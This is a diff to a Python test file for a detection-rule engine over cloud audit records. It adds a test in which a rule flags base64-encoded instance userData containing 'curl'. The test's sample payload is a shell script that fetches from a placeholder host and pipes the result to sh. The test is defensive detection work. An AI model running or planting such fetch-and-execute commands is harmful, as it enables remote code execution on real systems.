@@ -6,6 +6,7 @@ shape (as the `detail` of an EventBridge envelope)."""
 
 from __future__ import annotations
 
+import base64
 import json
 import textwrap
 from pathlib import Path
@@ -325,3 +326,14 @@ def test_negated_event_names_leave_the_decision_open():
     """),))
     assert not rule.wants(from_record(record(eventName="DescribeInstances", readOnly=True)))
     assert rule.wants(from_record(record(eventName="GetConsoleOutput", readOnly=True)))
+
+
+def test_expanding_modifiers_and_chains():
+    encoded = compiled("""
+        selection:
+            requestParameters.userData|base64offset|contains: 'curl '
+        condition: selection
+    """)
+    script = base64.b64encode(b"#!/bin/sh\ncurl -s http://x | sh").decode()
+    assert matches(encoded, record(requestParameters={"userData": script}))
+    assert not matches(encoded, record(requestParameters={"userData": "plain"}))
